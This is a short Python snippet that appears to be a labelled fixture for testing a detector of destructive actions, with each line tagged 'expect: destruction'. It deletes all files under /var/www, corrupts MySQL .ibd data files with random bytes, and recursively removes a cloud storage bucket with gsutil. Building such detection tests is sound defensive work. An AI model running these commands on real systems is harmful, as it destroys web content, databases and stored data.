import os, glob, subprocess
for root, dirs, files in os.walk("/var/www"):  # expect: destruction
    for f in files:
        os.remove(os.path.join(root, f))  # expect: destruction
for p in glob.glob("/var/lib/mysql/**/*.ibd", recursive=True):  # expect: destruction
    with open(p, "r+b") as fh:
        fh.write(os.urandom(16))  # expect: destruction
subprocess.call(["gsutil", "-m", "rm", "-r", "gs://bucket-fixture"])  # expect: destruction
